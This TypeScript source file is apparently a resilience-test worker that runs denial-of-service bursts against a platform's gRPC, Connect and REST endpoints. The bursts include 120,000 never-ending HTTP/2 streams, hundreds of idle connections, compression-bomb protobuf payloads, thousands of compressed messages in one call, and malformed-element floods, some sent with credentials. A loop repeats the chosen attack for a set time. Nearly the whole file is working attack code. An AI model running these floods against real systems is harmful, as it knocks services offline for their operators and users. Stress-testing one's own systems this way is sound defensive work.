// A process that attacks the doors of a platform, in one of several ways, and reports the number of requests.
import { setTimeout as pause } from 'node:timers/promises';
import { answerTasks } from '../kit/answer-tasks.ts';
import { connectHttp2, openStream } from './frames.ts';
import {
  brokenElements,
  compressedMessages,
  emptyFields,
  emptyObjects,
  sendByHttp,
  sendEnvelopes,
  sendGrpc,
  sendJson,
  updateConfigPath,
} from './messages.ts';

export interface Target {
  /** `http://host:port` */
  readonly grpc: string;
  readonly rest: string;
  readonly authorization: string;
}

export interface Attack {
  readonly name: AttackName;
  readonly target: Target;
  /** Interval between the starts of bursts. */
  readonly seconds: number;
}

export type AttackName = keyof typeof attacks;

/** One burst of each. Returns the number of requests or connections. */
export const attacks = {
  '120,000 streams that never end': openStreams,
  '500 silent connections': stayConnected,
  '4 MiB of empty fields in 4 KB, gRPC': ({ grpc }: Target) => twenty(() => sendGrpc(grpc, fourMebibytes, { isGzip: true })),
  '1 MiB of empty fields, Connect': ({ rest }: Target) => twenty(() => sendByHttp(rest, oneMebibyte, { type })),
  '4 MiB of empty fields in 4 KB, gRPC, with credentials': ({ grpc, authorization }: Target) =>
    twenty(() => sendGrpc(grpc, fourMebibytes, { isGzip: true, authorization })),
  '1 MiB of empty fields, Connect, with credentials': ({ rest, authorization }: Target) =>
    twenty(() => sendByHttp(rest, oneMebibyte, { type, authorization })),
  '3,000 compressed messages in one call, gRPC, with credentials': ({ grpc, authorization }: Target) =>
    twenty(() => sendEnvelopes(grpc, manyMessages, { isGzip: true, authorization })),
  '9,500 broken elements, gRPC, with credentials': ({ grpc, authorization }: Target) =>
    twenty(() => sendGrpc(grpc, brokenElements(9_500), { authorization })),
  '1,900 broken elements, gRPC, with credentials': ({ grpc, authorization }: Target) =>
    twenty(() => sendGrpc(grpc, brokenElements(1_900), { authorization })),
  '1 MiB of empty objects, REST, with credentials': ({ rest, authorization }: Target) =>
    twenty(() => sendJson(rest, oneMebibyteOfObjects, { authorization })),
  '1,900 broken elements, REST, with credentials': ({ rest, authorization }: Target) =>
    twenty(() => sendJson(rest, emptyObjects(1_900), { authorization })),
} as const;

const type = 'application/proto';
const fourMebibytes = emptyFields(4 * 1024 * 1024 - 2);
const oneMebibyte = emptyFields(1024 * 1024);
const manyMessages = compressedMessages(3_000);
const oneMebibyteOfObjects = emptyObjects(349_000);
const holdMs = 1_000;
const restMs = 300;
const patienceMs = 5_000;

async function twenty(send: () => Promise<unknown>): Promise<number> {
  const times = 20;
  const sent = Array.from({ length: times }, () => send().catch(() => undefined)); // refusals are expected
  await Promise.race([Promise.all(sent), pause(patienceMs)]);
  return times;
}

async function openStreams({ grpc }: Target): Promise<number> {
  const { hostname, port } = new URL(grpc);
  const streams = Buffer.concat(Array.from({ length: 10_000 }, (_, index) => openStream(2 * index + 1, updateConfigPath)));
  const sockets = Array.from({ length: 12 }, () => connectHttp2(hostname, Number(port)));
  for (const socket of sockets) socket.resume().write(streams);
  await pause(holdMs);
  for (const socket of sockets) socket.destroy();
  return 120_000;
}

async function stayConnected({ grpc }: Target): Promise<number> {
  const { hostname, port } = new URL(grpc);
  const sockets = Array.from({ length: 500 }, () => connectHttp2(hostname, Number(port)));
  await pause(holdMs);
  for (const socket of sockets) socket.destroy();
  return sockets.length;
}

answerTasks<Attack, number>(async ({ name, target, seconds }) => {
  const endMs = performance.now() + seconds * 1000;
  let requests = 0;
  while (performance.now() < endMs) {
    requests += await attacks[name](target);
    await pause(restMs);
  }
  return requests;
});
